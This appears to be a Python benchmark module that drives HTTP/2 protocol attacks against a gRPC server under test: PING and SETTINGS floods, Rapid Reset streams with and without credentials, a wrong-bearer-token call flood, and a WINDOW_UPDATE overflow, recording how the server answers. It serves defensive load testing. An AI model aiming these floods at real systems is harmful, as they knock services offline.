"""bench/protocol_attacks.py's floods: HTTP/2 frames (PING, SETTINGS, HEADERS then RST_STREAM, WINDOW_UPDATE) and
calls with a wrong token, from the attacker's address, as fast as the socket takes them."""

from __future__ import annotations

import struct
import time
from collections.abc import Callable
from pathlib import Path

from attacks import ATTACKER, AUTH, CLASSIFY


def _flood(port: int, seconds: float, tls_ca: Path | None, batch: Callable[[int], bytes]) -> dict:
    """`batch(first stream id)` written again and again for `seconds`; a connection the other side ends is replaced
    by a new one at once, as an attacker would. Counts the connections, when the first ended and what it got."""
    from hostile import Raw

    start, sent, connections, refused, first = time.monotonic(), 0, 0, 0, None
    while time.monotonic() - start < seconds:
        try:
            c = Raw(port, tls_ca=tls_ca, source=ATTACKER, timeout=2)
        except OSError:  # not accepted (a dropped SYN times out)
            refused += 1
            time.sleep(0.01)
            continue
        connections += 1
        c.sock.settimeout(1)
        c.wait_settings(2)  # the other side's SETTINGS first: a flood before them is closed by gRPC itself
        sid = 1
        while time.monotonic() - start < seconds and not c.closed.is_set() and sid < 2**31 - 2000:
            if c.send(batch(sid)):
                sent += 1
            sid += 1000
        if first is None:
            first = _outcome(c, start)
        else:
            c.close()
    return {"batches": sent, "connections": connections, "not_accepted": refused, "first": first}


def ping_flood(port: int, seconds: float, tls_ca: Path | None) -> dict:
    from hostile import PING, frame

    pings = frame(PING, 0, 0, b"attacker") * 1000
    return _flood(port, seconds, tls_ca, lambda sid: pings)


def settings_flood(port: int, seconds: float, tls_ca: Path | None) -> dict:
    from hostile import SETTINGS, frame

    settings = frame(SETTINGS, 0, 0) * 1000
    return _flood(port, seconds, tls_ca, lambda sid: settings)


def _rapid_reset(port: int, seconds: float, tls_ca: Path | None, metadata: list[tuple[str, str]]) -> dict:
    from hostile import CANCEL, END_HEADERS, HEADERS, RST_STREAM, frame, request_block

    block = request_block(CLASSIFY, metadata)
    reset = struct.pack(">I", CANCEL)
    return _flood(port, seconds, tls_ca, lambda sid: b"".join(
        frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, reset) for s in range(sid, sid + 1000, 2)))


def rapid_reset(port: int, seconds: float, tls_ca: Path | None) -> dict:
    return _rapid_reset(port, seconds, tls_ca, AUTH)


def rapid_reset_anon(port: int, seconds: float, tls_ca: Path | None) -> dict:
    return _rapid_reset(port, seconds, tls_ca, [])


def wrong_tokens(port: int, seconds: float, tls_ca: Path | None) -> dict:
    from hostile import END_HEADERS, END_STREAM, HEADERS, Raw, frame, request_block

    block = request_block(CLASSIFY, [("authorization", "Bearer wrong-token-guess-00000000")])
    start, sent, answered, refused_connections = time.monotonic(), 0, 0, 0
    while sent < 10_000 and time.monotonic() - start < max(seconds, 30):
        try:
            c = Raw(port, tls_ca=tls_ca, source=ATTACKER, timeout=2)
            c.sock.settimeout(2)
        except OSError:  # not accepted (a dropped SYN times out)
            refused_connections += 1
            sent += 100
            continue
        for s in range(1, 201, 2):
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, s, block))
        sent += 100
        deadline = time.monotonic() + 5
        while len(c.reset_streams) + c.received.get(1, 0) < 100 and not c.closed.is_set() \
                and time.monotonic() < deadline:
            time.sleep(0.001)
        answered += c.received.get(1, 0)
        c.close()
    elapsed = time.monotonic() - start
    return {"calls": sent, "answered": answered, "elapsed_s": round(elapsed, 2),
            "answers_per_s": round(answered / elapsed), "connections_refused": refused_connections}



def window_overflow(port: int, seconds: float, tls_ca: Path | None) -> dict:
    from hostile import WINDOW_UPDATE, Raw, frame

    c = Raw(port, tls_ca=tls_ca, source=ATTACKER)
    c.wait_settings()
    start = time.monotonic()
    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2)
    c.closed.wait(seconds)
    return _outcome(c, start)


def _outcome(c, start: float) -> dict:
    closed = c.closed_at - start if c.closed_at is not None else None
    goaway = c.goaway_at - start if c.goaway_at is not None else None
    c.close()
    return {"goaway_code": c.goaway_code, "goaway_after_s": None if goaway is None else round(goaway, 3),
            "closed_after_s": None if closed is None else round(closed, 3), "acks": c.acks,
            "acks_after_goaway": c.acks_after_goaway}

